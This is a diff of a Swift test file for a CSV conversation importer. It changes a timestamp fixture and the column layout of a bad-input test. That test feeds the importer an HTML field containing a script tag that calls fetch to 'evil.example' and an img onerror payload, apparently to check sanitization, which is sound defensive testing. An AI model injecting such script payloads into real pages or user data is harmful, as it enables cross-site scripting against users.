@@ -53,7 +53,7 @@ struct BadInputTests {
   @Test func `times of 1601 are left out`() throws {
     let place = try ImportPlace()
     try place.write(
-      ImportPlace.table.replacing("03/04/2026 10:00", with: "1601-01-01T00:00:00Z"), to: "m.csv")
+      ImportPlace.table.replacing("03/04/2025 10:00", with: "1601-01-01T00:00:00Z"), to: "m.csv")
     _ = try place.take(ImportAnswers(timeZone: "UTC", dateOrder: .dayFirst))
     #expect(try place.stored().flatMap(\.turns).compactMap(\.at).allSatisfy { $0.seconds > 1e9 })
   }
@@ -91,8 +91,8 @@ struct BadInputTests {
     let place = try ImportPlace()
     try place.write(
       """
-      conversation_id,author_role,visibility,html
-      c1,customer,public,"<p>Hello <b>you</b></p><script>fetch('https://evil.example')</script><img src=x onerror=alert(1)>"
+      conversation_id,author_role,visibility,content_type,text
+      c1,customer,public,text/html,"<p>Hello <b>you</b></p><script>fetch('https://evil.example')</script><img src=x onerror=alert(1)>"
 
       """, to: "m.csv")
     _ = try place.take()
